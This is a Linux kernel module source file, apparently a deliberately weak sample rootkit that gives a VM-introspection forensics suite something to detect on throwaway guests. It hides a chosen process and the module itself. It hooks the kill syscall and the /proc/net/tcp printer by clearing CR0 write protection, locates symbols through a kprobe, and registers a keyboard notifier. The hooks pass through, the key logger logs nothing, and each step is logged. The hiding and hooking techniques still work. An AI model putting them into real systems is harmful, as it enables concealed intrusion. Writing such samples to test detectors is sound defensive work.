// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_rootkit: a rootkit for the throwaway sample guest only, so that the rootkit checks have
 * something real to find (issue #14). Loaded by the workload with hide_pid=PID, it
 *   - unlinks that process from the task list (it stays in the pid table and runs on),
 *   - unlinks itself from the module list and removes its kobject from /sys/module,
 *   - replaces sys_call_table[__NR_kill] with a handler of its own,
 *   - replaces tcp4_seq_ops.show (what /proc/net/tcp prints each socket with) with its own,
 *   - registers a keyboard notifier (a key logger's hook; this one logs nothing),
 * and logs each step with its addresses through printk, for the truth.
 */
#include <linux/kallsyms.h>
#include <linux/keyboard.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/seq_file.h>
#include <linux/syscalls.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmi-forensics sample rootkit (test guests only)");

static int hide_pid;
module_param(hide_pid, int, 0);

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn original_kill;
static unsigned long *table;

static long hooked_kill(const struct pt_regs *regs)
{
	return original_kill(regs);
}

/* Calls the original: the guest's /proc/net/tcp (and so the truth) stays as it was. */
static int (*original_tcp4_show)(struct seq_file *, void *);

static int hooked_tcp4_show(struct seq_file *seq, void *v)
{
	return original_tcp4_show(seq, v);
}

static int key_logger(struct notifier_block *block, unsigned long action, void *data)
{
	return NOTIFY_OK;
}

static struct notifier_block key_notifier = { .notifier_call = key_logger };

/* kallsyms_lookup_name is not exported since 5.7: a kprobe on it tells its address. */
static unsigned long lookup(const char *name)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*kallsyms_lookup_name_fn)(const char *);

	if (register_kprobe(&probe) < 0)
		return 0;
	kallsyms_lookup_name_fn = (void *)probe.addr;
	unregister_kprobe(&probe);
	return kallsyms_lookup_name_fn(name);
}

/* sys_call_table is read-only: write it with CR0.WP cleared, as rootkits do. */
static void write_protected(unsigned long *slot, unsigned long value)
{
	unsigned long cr0 = read_cr0();

	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	*slot = value;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static int __init vmi_rootkit_init(void)
{
	struct task_struct *task;
	struct seq_operations *tcp4_ops;

	rcu_read_lock();
	task = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
	if (task) {
		list_del_rcu(&task->tasks);
		/* Left pointing into the list, as list_del_rcu leaves it: the task is still reachable. */
		pr_info("vmi_rootkit: hid pid %d task %px\n", hide_pid, task);
	}
	rcu_read_unlock();

	table = (unsigned long *)lookup("sys_call_table");
	if (table) {
		original_kill = (syscall_fn)table[__NR_kill];
		write_protected(&table[__NR_kill], (unsigned long)hooked_kill);
		pr_info("vmi_rootkit: sys_call_table %px slot %d now %px (was %px)\n", table, __NR_kill,
			hooked_kill, original_kill);
	}

	tcp4_ops = (struct seq_operations *)lookup("tcp4_seq_ops");
	if (tcp4_ops) {
		original_tcp4_show = tcp4_ops->show;
		write_protected((unsigned long *)&tcp4_ops->show, (unsigned long)hooked_tcp4_show);
		pr_info("vmi_rootkit: tcp4_seq_ops %px show now %px (was %px)\n", tcp4_ops, hooked_tcp4_show,
			original_tcp4_show);
	}

	if (register_keyboard_notifier(&key_notifier) == 0)
		pr_info("vmi_rootkit: keyboard notifier %px calls %px\n", &key_notifier, key_logger);

	pr_info("vmi_rootkit: module %px hides itself\n", THIS_MODULE);
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

/* No exit: a module that left the list cannot be unloaded; the guest is thrown away. */
module_init(vmi_rootkit_init);
